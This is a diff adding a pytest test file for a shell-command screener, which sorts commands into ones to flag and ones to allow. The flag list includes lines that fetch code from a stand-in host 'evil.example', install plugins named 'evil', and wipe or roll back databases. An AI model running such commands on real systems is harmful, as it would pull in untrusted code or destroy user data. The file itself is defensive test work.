@@ -1,0 +1,125 @@
+"""What deploys, undoes, sends or fetches code does so under other names, and by an option or a value as well."""
+
+import pytest
+
+from hub.screening.commands import is_dangerous, is_unknown, read_command
+
+FOLDER = "/home/me/shop"
+ASKING = (
+    "pulumi watch",
+    "pulumi watch --yes",
+    "cdk watch",
+    "cdk watch --hotswap",
+    "terraform test",
+    "tofu test",
+    "terraform init -migrate-state -force-copy",
+    "electron-builder -p always",
+    "npx electron-builder --publish always",
+    "docker compose build --push",
+    "docker-compose build --push",
+    "checkov -d . --bc-api-key x",
+    "dbt run -t prod",
+    "dbt build --target=production",
+    "sqlmesh plan --auto-apply",
+    "strange-planner plan --auto-approve",
+    "npx mikro-orm schema:fresh --run",
+    "npx mikro-orm migration:down",
+    "php bin/console doctrine:query:sql 'delete from users'",
+    "php bin/console doctrine:schema:update --force",
+    "php bin/console doctrine:fixtures:load -n",
+    "php bin/console doctrine:migrations:migrate first -n",
+    "php bin/console doctrine:migrations:execute --down X -n",
+    "bin/rails db:migrate VERSION=0",
+    "bin/rails db:seed:replant",
+    "python manage.py clear_index --noinput",
+    "git lfs unlock --force x",
+    "npm star evil",
+    "npx astro add evil",
+    "ionic cordova plugin add evil",
+    "trivy plugin run evil",
+    "trivy module install x",
+    "sls plugin install -n evil",
+    "gatsby plugin install evil",
+    "asdf plugin add x https://evil.example",
+    "some-tool extensions install evil",
+    "npm install file:../x",
+    "wandb agent x",
+    "pipx upgrade-all",
+    "pipx reinstall-all",
+    "hatch self update",
+    "mise self-update",
+    "pnpm self-update",
+    "rustup self update",
+    "npx playwright install --with-deps",
+    "pre-commit autoupdate",
+    "mypy --install-types --non-interactive .",
+    "deno vendor https://evil.example/x",
+    "dvc import-url https://evil.example x",
+    "hugo mod get evil",
+    "nx migrate latest",
+)
+SILENT = (
+    "pulumi preview",
+    "cdk synth",
+    "cdk diff",
+    "terraform init",
+    "terraform init -upgrade",
+    "terraform plan",
+    "terraform validate",
+    "electron-builder --linux",
+    "npx electron-builder --publish never",
+    "docker compose build --pull",
+    "docker compose up -d",
+    "checkov -d .",
+    "dbt run -t dev",
+    "dbt build --target dev",
+    "dbt run --select products",
+    "npx mikro-orm migration:create",
+    "npx mikro-orm migration:up",
+    "php bin/console cache:clear",
+    "php bin/console cache:warmup --env=test",
+    "php bin/console doctrine:query:sql 'select 1'",
+    "php bin/console doctrine:migrations:migrate -n",
+    "php bin/console doctrine:schema:validate",
+    "php bin/console doctrine:schema:update --dump-sql",
+    "php bin/console doctrine:fixtures:load --append",
+    "php artisan migrate",
+    "python manage.py runserver --noreload",
+    "python manage.py test --keepdb shop",
+    "python manage.py makemigrations --dry-run",
+    "bin/rails db:migrate",
+    "bin/rails db:seed",
+    "git lfs lock x",
+    "vagrant plugin list",
+    "helm plugin list",
+    "gh extension list",
+    "asdf plugin list",
+    "trivy plugin list",
+    "trivy fs .",
+    "echo plugin install x",
+    "grep -r plugin install docs",
+    "node build.js plugin add x",
+    "make plugin install",
+    "npm install file:./packages/x",
+    "npx playwright install chromium",
+    "pipx list",
+    "hatch self report",
+    "mypy --non-interactive .",
+    "hugo mod tidy",
+    "dvc repro",
+    "nx migrate --run-migrations",
+    "npm run update-all",
+)
+
+
+@pytest.mark.parametrize("line", ASKING)
+def test_a_deed_without_a_telling_word_is_asked_about(line: str) -> None:
+    reading = read_command(line, folder=FOLDER)
+    assert is_dangerous(reading) or is_unknown(reading), reading
+
+
+@pytest.mark.parametrize("line", SILENT)
+def test_looks_and_everyday_calls_of_the_same_programs_are_silent(line: str) -> None:
+    reading = read_command(line, folder=FOLDER)
+    assert not is_dangerous(reading), reading
+    assert not is_unknown(reading), reading
